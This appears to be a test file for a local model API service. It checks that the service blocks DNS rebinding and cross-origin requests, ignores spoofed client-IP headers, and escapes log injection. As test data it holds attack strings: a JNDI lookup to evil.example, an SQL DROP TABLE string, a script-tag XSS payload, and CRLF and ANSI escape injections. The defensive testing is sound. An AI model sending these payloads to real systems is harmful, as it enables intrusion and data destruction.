import { until } from '../../support/basics/until.js';
import { jsonPost, RawConnection, receive, request } from '../../support/clients/raw-http.js';
import { metric } from '../../support/documents/exposition.js';
import { nativeEndpoints } from '../../support/documents/tables.js';
import { answerTo, expectSound, failure } from '../../support/doors/door.js';
import { untilJobs } from '../../support/jobs/jobs.js';
import { type Service, startService } from '../../support/service/service.js';

const key = 'key-of-the-service-0001';
const withKey = `X-API-Key: ${key}`;
const foreignHosts = [
  'evil.example',
  'localhost.evil.example',
  '127.0.0.1.nip.io',
  'rebind.example:5051',
  '0.0.0.0',
  '[::]',
];
const foreignOrigins = [
  'http://evil.example',
  'https://localhost.evil.example',
  'null',
  'http://127.0.0.1:1',
  'file://',
];

let service: Service;
beforeAll(async () => {
  // Only this level logs requests for files of the console.
  service = await startService({ env: { MODEL_API_KEY: key, MODEL_API_LOG_LEVEL: 'debug' } });
});
afterAll(async () => {
  await expectSound(service, { 'x-api-key': key });
  await service.stop();
});

/** Builds a valid request to an endpoint, except for these headers. */
function requestTo({ method, route }: (typeof nativeEndpoints)[number], headers: readonly string[]): Buffer {
  const path = route.replace(/\{\w+\}/, 'c'.repeat(32));
  const body = path === '/chat' ? '{"message":"forged"}' : '{"prompt":"forged"}';
  return method === 'POST'
    ? jsonPost(path, body, [withKey, ...headers])
    : request(`${method} ${path}`, [withKey, ...headers]);
}

const listed = nativeEndpoints.map((endpoint) => [`${endpoint.method} ${endpoint.route}`, endpoint] as const);

describe('A web page on another site', () => {
  it.each(listed)('cannot reach %s by DNS rebinding', async (_name, endpoint) => {
    for (const host of foreignHosts) {
      const { status, body } = await answerTo(service, requestTo(endpoint, [`Host: ${host}`]));
      expect([host, status, body]).toEqual([
        host,
        403,
        failure('forbidden', 'this Host is not allowed: add it to MODEL_API_ALLOWED_HOSTS'),
      ]);
    }
  });

  it.each(listed)('cannot send to %s, and its preflight request is refused', async (_name, endpoint) => {
    for (const origin of foreignOrigins) {
      const preflight = ['OPTIONS', `Access-Control-Request-Method: ${endpoint.method}`] as const;
      const asking = request(`${preflight[0]} ${endpoint.route.replace(/[{}]/g, '')}`, [
        preflight[1],
        `Origin: ${origin}`,
      ]);
      for (const bytes of [requestTo(endpoint, [`Origin: ${origin}`]), asking]) {
        const { status, body } = await answerTo(service, bytes);
        expect([origin, status, body]).toEqual([
          origin,
          403,
          failure('forbidden', 'this Origin is not allowed: add it to MODEL_API_ALLOWED_ORIGINS'),
        ]);
      }
    }
  });

  it('cannot hide behind two thousand header lines', async () => {
    const many = Array<string>(2500).fill('a:');
    const sent = (...headers: readonly string[]) => answerTo(service, jsonPost('/ask', '{"prompt":"forged"}', headers));
    const origin = await sent(withKey, ...many, 'Origin: http://evil.example');
    expect([origin.status, origin.body.error]).toEqual([403, 'forbidden']);
    const site = await sent(withKey, ...many, 'Sec-Fetch-Site: cross-site');
    expect([site.status, site.body.error]).toEqual([403, 'forbidden']);
    const host = await sent('Host: localhost', withKey, ...many, 'Host: evil.example');
    expect([host.status, host.body.message]).toEqual([400, 'Host: exactly one Host header is needed']);
    const other = await sent(withKey, ...many, 'X-API-Key: another');
    expect([other.status, other.body.error]).toEqual([401, 'unauthorized']);
    const more = await sent(withKey, ...Array<string>(2500).fill('abcd: efgh')); // more than 16 KB
    expect([more.status, more.body.message]).toEqual([431, 'the headers are too large']);
  });

  it('has started no job with any of these requests', async () => {
    const started = await Promise.all(
      ['ask', 'chat'].map((name) => metric(service, `jobs_total{operation="${name}",outcome="ok"}`)),
    );
    expect(started).toEqual([0, 0]);
  });
});

/** Texts that would end a line, colour it, or start another record if they were logged unescaped. */
const injections = [
  '","event":"shutdown_complete","x":"',
  '\u001b[2J\u001b[31mred\u001b[0m',
  "'; DROP TABLE logs; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker sends
  '${jndi:ldap://evil.example/a}',
  '%0d%0a{"event":"forged"}',
  '\\u000a{"event":"forged"}',
  '\x7f\x9b31m\xad\xff',
  '</script><script>alert(1)</script>',
];
/** Node rejects a head that contains one. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this removes
const withoutControls = (text: string) => text.replace(/[\x00-\x1f\x7f]/g, '');
const printable = (text: string) => text.replace(/[^\x21-\x7e]/g, '.');

describe('A client that tries to inject log records', () => {
  it.each(injections)('causes one record, on one line of JSON: %j', async (text) => {
    const from = service.logs.length;
    const headers = [`User-Agent: ${text}`, `Referer: ${text}`, `X-Request-Id: ${text}`, `X-API-Key: ${text}`];
    const forwarded = [
      `X-Forwarded-For: ${text}`,
      `Forwarded: for="${text}"`,
      `X-Real-IP: ${text}`,
      `Authorization: Bearer ${text}`,
    ];
    const bytes = request(`GET /${printable(text)}`, [...headers, ...forwarded].map(withoutControls));
    const { requestIds } = await receive(service.port, bytes);
    expect(requestIds).toHaveLength(1);
    await service.log('http_request_completed', ({ request_id }) => request_id === requestIds[0]);
    const records = service.logs.slice(from).filter(({ path }) => path !== '/metrics'); // requested by the test before
    expect(records.map(({ event }) => event)).toEqual(['http_request_completed']);
    expect(Object.keys(records[0] ?? {}).filter((name) => !known.has(name))).toEqual([]);
  });

  it('cannot put a line feed into a header, a method or a path', async () => {
    const from = service.logs.length;
    const ending = 'HTTP/1.1\r\nHost: localhost\r\n';
    const forged = '{"event":"forged"}';
    const attempts = [
      `GET /a\n${forged} ${ending}\r\n`,
      `GET\n${forged} / ${ending}\r\n`,
      `GET / ${ending}X-Request-Id: a\n${forged}\r\n\r\n`,
      `GET / ${ending}X-Request-Id: a\0${forged}\r\n\r\n`,
    ];
    for (const attempt of attempts) expect((await receive(service.port, Buffer.from(attempt))).statuses).toEqual([400]);
    await until(() => service.logs.length >= from + attempts.length, 'their records');
    for (const record of service.logs.slice(from))
      expect(record).toMatchObject({ event: 'http_request_completed', method: '', path: '' });
  });
});

/** All fields that the record of a request may have. */
const known = new Set(
  'level time role pid event request_id method path status_code duration_ms client error'.split(' '),
);

describe('A client that claims to be another', () => {
  const claims = [
    'X-Forwarded-For: 198.51.100.7',
    'X-Real-IP: 198.51.100.7',
    'Forwarded: for=198.51.100.7',
    'X-Client-IP: 10.0.0.1',
  ];

  it('is logged under its real identity', async () => {
    const clients = [[], claims].map(async (headers) => {
      const { body } = await answerTo(service, jsonPost('/ask', '{"prompt":"a"}', headers));
      return (await service.log('http_request_completed', ({ request_id }) => request_id === body.request_id)).client;
    });
    const [plain, claiming] = await Promise.all(clients);
    expect(claiming).toBe(plain);
  });

  it('does not get a rate limit of its claimed identity', async () => {
    await using capped = await startService({ env: { MODEL_API_RATE_LIMIT_MAX_REQUESTS: '3' } });
    const statuses: number[] = [];
    for (let count = 0; count < 6; count++) {
      const headers = [`X-Forwarded-For: 198.51.100.${count}`, `X-Request-Id: claim-${count}`];
      statuses.push((await answerTo(capped, jsonPost('/ask', '{"prompt":"a","model":"echo"}', headers))).status);
    }
    expect(statuses).toEqual([200, 200, 200, 429, 429, 429]);
  });

  it('gets the answer to its request even if the request id is in use', async () => {
    const ask = (prompt: string) =>
      answerTo(service, jsonPost('/ask', `{"prompt":"${prompt}","model":"echo"}`, [withKey, 'X-Request-Id: shared']));
    const from = service.logs.length;
    const answers = await Promise.all(['one', 'two', 'three'].map(ask));
    expect(answers.map(({ body }) => body.response)).toEqual(['one', 'two', 'three']);
    const records = () =>
      service.logs
        .slice(from)
        .filter(({ event, request_id }) => event === 'http_request_completed' && request_id === 'shared');
    await until(() => records().length === 3, 'three records');
  });
});

describe('A client that half-closes its connection', () => {
  it.each(listed)('counts as disconnected, and leaves nothing open: %s', async (_name, endpoint) => {
    const requestId = `half-${nativeEndpoints.indexOf(endpoint)}-${service.logs.length}`;
    using connection = await RawConnection.open(service.port);
    connection.send(requestTo(endpoint, [`X-Request-Id: ${requestId}`]));
    connection.endInput();
    await connection.closed();
    const record = await service.log('http_request_completed', ({ request_id }) => request_id === requestId);
    expect(record.status_code === 499).toBe(!connection.hasMore);
  });

  it('after pipelined jobs leaves none of them running', async () => {
    const jobs = Array.from({ length: 10 }, (_, index) =>
      jsonPost('/ask', `{"prompt":"a","stream":${index % 2 === 0}}`, [withKey]),
    );
    for (const leave of ['endInput', 'reset'] as const) {
      using connection = await RawConnection.open(service.port);
      connection.send(Buffer.concat(jobs));
      await until(() => connection.hasMore, 'the first answer');
      connection[leave]();
      await untilJobs(service, 0, 0);
      await until(async () => (await service.jobProcesses()).length === 0, 'no process');
    }
  });
});
